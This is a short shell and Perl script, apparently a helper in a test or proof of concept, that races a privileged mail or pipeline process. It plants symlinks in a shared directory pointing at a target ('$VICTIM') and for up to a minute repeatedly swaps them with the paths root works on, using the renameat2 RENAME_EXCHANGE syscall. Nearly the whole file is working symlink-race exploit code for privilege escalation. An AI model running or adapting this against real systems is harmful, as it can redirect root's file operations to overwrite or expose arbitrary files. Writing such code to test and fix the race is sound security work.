#!/bin/sh
# As the worker's user: exchanges a mailbox, a directory above and a sentinel with links to root's, without a pause,
# until $HOME/stop is there (HOME is the share).
set -eu
ln -sfn "$PLACE" "$SHARE/.a-box"
ln -sfn "$PLACE" "$SHARE/.a-place"
ln -sfn "$VICTIM" "$SHARE/.a-link"
touch "$HOME/racing"
exec perl -e '
  my $at = "signals/max-pipeline";
  my @pairs = ([".a-box", "$at/clara/new"], [".a-place", "$at/outbox/clara"], [".a-link", "$at/.max-share"]);
  my $until = time + 60;
  until (-e "$ENV{HOME}/stop" || time > $until) {
    for my $pair (@pairs) {
      my ($from, $to) = map { "$ENV{SHARE}/$_" } @$pair;
      syscall(316, -100, $from, -100, $to, 2); # renameat2, RENAME_EXCHANGE
    }
  }'
